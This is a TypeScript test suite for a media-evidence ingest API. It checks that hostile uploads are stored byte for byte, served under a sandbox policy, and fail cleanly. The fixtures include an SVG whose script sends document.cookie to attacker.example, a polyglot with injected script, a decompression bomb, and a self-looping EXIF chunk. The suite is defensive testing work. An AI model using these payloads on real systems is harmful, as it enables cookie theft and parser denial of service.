/**
 * Hostile media are evidence too: sealed as bytes, byte for byte, while no metadata, hashing or working-copy
 * step crashes, hangs or retries for ever. Each ends with a clear recorded error.
 */
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { systemActor } from '../../src/core/access/actor.ts'
import { ingestMedia } from '../../src/core/evidence/ingest.ts'
import { sniffMediaType } from '../../src/core/evidence/media-sniff.ts'
import { call } from '../access/support.ts'
import { startTestApi, type TestApi } from '../http/harness.ts'
import { drainJobs, fieldPhotos, once, sha256 } from './support.ts'
import { pngBomb } from '../support/hostile-media.ts'


/** A small JPEG with an EXIF segment whose first IFD names itself as the next one: a parser that follows the chain loops. */
async function loopingExif(): Promise<Buffer> {
  const jpeg = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#345' } }).jpeg().toBuffer()
  const tiff = Buffer.alloc(8 + 2 + 12 + 4)
  tiff.write('II', 0, 'latin1')
  tiff.writeUInt16LE(42, 2)
  tiff.writeUInt32LE(8, 4)
  tiff.writeUInt16LE(1, 8) // one entry
  tiff.writeUInt16LE(0x010f, 10) // Make
  tiff.writeUInt16LE(2, 12) // ASCII
  tiff.writeUInt32LE(4, 14)
  tiff.write('Loo\0', 18, 'latin1')
  tiff.writeUInt32LE(8, 22) // next IFD: itself
  const payload = Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), tiff])
  const segment = Buffer.alloc(4)
  segment.writeUInt16BE(0xffe1, 0)
  segment.writeUInt16BE(payload.length + 2, 2)
  return Buffer.concat([jpeg.subarray(0, 2), segment, payload, jpeg.subarray(2)])
}

describe('hostile media in the locker', () => {
  let api: TestApi
  beforeAll(async () => {
    api = await startTestApi('sqlite')
  })
  afterAll(async () => {
    await api?.close()
  })

  it('seals every hostile file as bytes, and the background work ends each with a clear error, never a crash or a retry loop', { timeout: 120_000 }, async () => {
    const photo = fieldPhotos().find((p) => p.name.endsWith('.jpg'))!.bytes
    const hostile: Record<string, Buffer> = {
      'zero bytes': Buffer.alloc(0),
      'truncated JPEG': photo.subarray(0, Math.floor(photo.length / 3)),
      'decompression bomb': await pngBomb(),
      'JPEG/ZIP/HTML polyglot': Buffer.concat([await sharp({ create: { width: 8, height: 8, channels: 3, background: '#111' } }).jpeg().toBuffer(), Buffer.from('PK\x03\x04<html><script>alert(1)</script></html>', 'latin1')]),
      'SVG with script': Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch("https://attacker.example/"+document.cookie)</script></svg>'),
      'text claiming to be a JPEG': Buffer.from('this is not a picture at all, whatever the header says\n'),
      'looping EXIF': await loopingExif(),
      'JPEG header then garbage': Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(5000, 0x41)]),
    }
    for (const [what, bytes] of Object.entries(hostile)) {
      const res = await api.app.inject({ method: 'POST', url: '/api/v1/media', headers: { authorization: `Bearer ${api.token.researcher}`, 'content-type': 'image/jpeg' }, payload: bytes })
      expect(res.statusCode, `${what}: ${res.body}`).toBe(201)
      expect(res.json()).toMatchObject({ sha256: sha256(bytes), byteLength: bytes.length })
    }
    await drainJobs(api.ctx)

    const jobs = await api.ctx.db.kysely.selectFrom('jobs').selectAll().where('name', '=', 'media.process').execute()
    expect(jobs.map((j) => [j.status, j.attempts])).toEqual(jobs.map(() => ['done', 1]))
    const outcome: Record<string, { status: string; error: string | null; type: string }> = {}
    for (const [what, bytes] of Object.entries(hostile)) {
      const item = (await api.ctx.store.repos.mediaItems.bySha256(sha256(bytes)))!
      outcome[what] = { status: item.metadataStatus, error: item.metadataError, type: item.mediaType }
      // Byte for byte what was sent, for legal.
      const back = await call(api.app, { url: `/api/v1/media/${item.sha256}/content`, token: api.token.legal })
      expect(back.statusCode).toBe(200)
      expect(sha256(back.rawPayload), what).toBe(item.sha256)
      expect(back.headers['content-security-policy']).toMatch(/sandbox/)
    }
    expect(outcome['zero bytes']).toMatchObject({ status: 'failed', type: 'application/octet-stream', error: expect.stringMatching(/unsupported/) })
    expect(outcome['truncated JPEG']).toMatchObject({ type: 'image/jpeg', error: expect.stringMatching(/truncated|corrupt/) })
    expect(outcome['decompression bomb']).toMatchObject({ status: 'failed', type: 'image/png', error: expect.stringMatching(/too_large/) })
    expect(outcome['SVG with script']).toMatchObject({ status: 'failed', type: 'image/svg+xml' })
    expect(outcome['text claiming to be a JPEG']).toMatchObject({ status: 'failed', type: 'application/octet-stream' })
    expect(outcome['JPEG header then garbage']).toMatchObject({ status: 'failed', type: 'image/jpeg', error: expect.any(String) })
    expect(outcome['looping EXIF']!.type).toBe('image/jpeg')
    expect(['done', 'failed']).toContain(outcome['looping EXIF']!.status)
    expect(outcome['JPEG/ZIP/HTML polyglot']!.type).toBe('image/jpeg')
  })

  it('gives up on a working copy of a decompression bomb at once, with the reason', { timeout: 60_000 }, async () => {
    const bomb = await pngBomb()
    const { item } = await ingestMedia({ store: api.ctx.store, blobs: api.ctx.blobs, sealer: api.ctx.envelope, isUniqueViolation: api.ctx.db.isUniqueViolation }, systemActor('cli'), { body: once(bomb) })
    const res = await call(api.app, { method: 'POST', url: `/api/v1/media/${item.sha256}/working-copy`, token: api.token.editor })
    expect(res.statusCode).toBe(202)
    await drainJobs(api.ctx)
    const job = await api.ctx.db.kysely.selectFrom('jobs').selectAll().where('id', '=', (res.json() as { jobId: string }).jobId).executeTakeFirstOrThrow()
    expect(job.status).toBe('dead')
    expect(job.attempts).toBe(1)
    expect(job.last_error).toMatch(/PermanentJobError.*(pixel|corrupt|too)/i)
  })

  it('names types by their bytes, not by what a client says', () => {
    expect(sniffMediaType(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]))).toBe('image/png')
    expect(sniffMediaType(Buffer.from('\x00\x00\x00\x18ftypqt  ', 'latin1'))).toBe('video/quicktime')
    expect(sniffMediaType(Buffer.from('\x00\x00\x00\x18ftypheic', 'latin1'))).toBe('image/heic')
    expect(sniffMediaType(Buffer.from('  <svg xmlns="http://www.w3.org/2000/svg"/>'))).toBe('image/svg+xml')
    expect(sniffMediaType(Buffer.from('<html><body>hi</body></html>'))).toBe('application/octet-stream')
    expect(sniffMediaType(new Uint8Array(0))).toBe('application/octet-stream')
  })
})
